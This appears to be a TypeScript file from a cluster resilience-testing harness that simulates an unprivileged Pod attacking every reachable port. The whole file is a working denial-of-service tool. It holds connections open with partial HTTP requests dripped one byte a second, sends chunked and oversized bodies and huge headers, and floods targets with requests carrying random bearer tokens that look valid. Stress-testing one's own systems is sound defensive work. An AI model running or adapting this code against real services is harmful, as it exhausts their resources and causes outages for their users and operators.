/**
 * A Pod without any permissions, at every port that it can reach: it holds connections, sends halves of requests, drips bodies, asks
 * with headers as large as they may be, and with bearers that look as they should.
 */
import { randomBytes } from 'node:crypto'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { again, giveWay, report } from './attack.ts'
import type { Counting } from './attack.ts'

export type CrowdGiven = {
  /** The address that it comes from. */
  readonly from: string
  /** Of its connections to each port. */
  readonly connections: number
  /** Each port, and what is asked there. */
  readonly targets: readonly Target[]
}

export type Target = {
  readonly url: string
  readonly method: 'GET' | 'POST'
  /** `NEW` stands for something that is new each time. */
  readonly path: string
  /** In base64url: the parts of a token, of which the last is new each time. */
  readonly bearer?: string
  readonly type?: string
  readonly body?: string
}

const dripMs = 1000
const reopenMs = 500
const askingAtOnce = 6

/** What a connection begins with, and then goes on with a byte a second at most. */
const openings = [
  '',
  'POST / HTTP/1.1\r\nhost: a\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 60000\r\n\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n1\r\na\r\n',
  `GET / HTTP/1.1\r\nhost: a\r\n${'x-a: b\r\n'.repeat(90)}`,
] as const

const { from, connections, targets } = JSON.parse(process.argv[2] ?? '') as CrowdGiven
const counting = report()
giveWay()
for (const target of targets) {
  for (let index = 0; index < connections; index++) void hold(target, openings[index % openings.length] ?? '')
  ask(target, counting)
}

async function hold({ url }: Target, opening: string): Promise<never> {
  const { hostname, port } = new URL(url)
  for (;;) {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from })
    const closed = new Promise<void>((resolve) => {
      socket.once('error', () => {
        resolve()
      })
      socket.once('close', () => {
        resolve()
      })
    })
    socket.write(opening)
    const drip = setInterval(() => socket.write('a'), dripMs)
    socket.resume()
    await closed
    clearInterval(drip)
    counting.count('connections lost')
    await sleep(reopenMs)
  }
}

function ask(target: Target, tally: Counting): void {
  const agent = new Agent({ keepAlive: true, maxSockets: askingAtOnce, localAddress: from })
  again(
    askingAtOnce,
    tally,
    async (loop) =>
      `${new URL(target.path, target.url).pathname} ${await once(target, agent, loop % 2 === 0)}`,
  )
}

function once(target: Target, agent: Agent, isLarge: boolean): Promise<number> {
  const news = randomBytes(32).toString('base64url')
  const headers = {
    ...(target.bearer !== undefined && { authorization: `Bearer ${target.bearer}${news}` }),
    ...(target.type !== undefined && { 'content-type': target.type }),
    ...(isLarge && { 'x-large': 'a'.repeat(12_000) }),
  }
  const path = target.path.replaceAll('NEW', news)
  return new Promise((resolve, reject) => {
    const asked = request(new URL(path, target.url), { method: target.method, agent, headers }, (answer) => {
      answer.resume()
      answer.once('error', reject)
      answer.once('end', () => {
        resolve(answer.statusCode ?? 0)
      })
    })
    asked.once('error', reject)
    asked.end(target.body)
  })
}
